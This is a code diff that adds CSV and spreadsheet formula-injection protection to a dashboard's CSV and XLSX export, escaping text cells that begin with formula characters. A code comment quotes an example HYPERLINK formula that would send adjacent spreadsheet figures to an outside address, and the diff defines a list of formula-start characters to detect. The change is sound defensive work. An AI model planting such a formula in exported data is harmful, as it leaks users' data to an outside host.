@@ -85,10 +85,24 @@ def rows_for(dashboard: Dashboard, name: str) -> list[list]:
     raise KeyError(name)
 
 
+# A text cell beginning with one of these is a formula (or becomes one) in a spreadsheet:
+# `=HYPERLINK("https://…/?d="&E5,"Voir")` typed as an indicator label would run on the
+# coordinator's computer and could send the figures beside it away (OWASP "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert(value):
+    """A text cell as text that no spreadsheet evaluates: a leading apostrophe, which
+    spreadsheets read as "this is text" (numbers stay numbers)."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def to_csv(rows: list[list]) -> bytes:
     buffer = io.StringIO()
     writer = csv.writer(buffer, delimiter=";")  # what a Belgian spreadsheet opens as columns
-    writer.writerows(rows)
+    writer.writerows([inert(value) for value in row] for row in rows)
     return ("\ufeff" + buffer.getvalue()).encode("utf-8")  # BOM: accents open right in Excel
 
 
@@ -97,12 +111,12 @@ def to_xlsx(dashboard: Dashboard, heading: str) -> bytes:
     workbook.remove(workbook.active)
     for name in TABLES:
         sheet = workbook.create_sheet(table_title(name)[:31])
-        sheet.append([heading])
+        _append(sheet, [heading])
         sheet["A1"].font = Font(bold=True)
-        sheet.append([suppression_note(dashboard.k)])
+        _append(sheet, [suppression_note(dashboard.k)])
         sheet.append([])
         for index, row in enumerate(rows_for(dashboard, name)):
-            sheet.append(row)
+            _append(sheet, row)
             if index == 0:
                 for cell in sheet[sheet.max_row]:
                     cell.font = Font(bold=True)
@@ -110,3 +124,13 @@ def to_xlsx(dashboard: Dashboard, heading: str) -> bytes:
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
+
+
+def _append(sheet, row: list) -> None:
+    """Append a row whose text cells are typed as strings: openpyxl would otherwise store a
+    text beginning with "=" as a formula."""
+    sheet.append(row)
+    for cell in sheet[sheet.max_row]:
+        if isinstance(cell.value, str):
+            cell.value = inert(cell.value)
+            cell.data_type = "s"
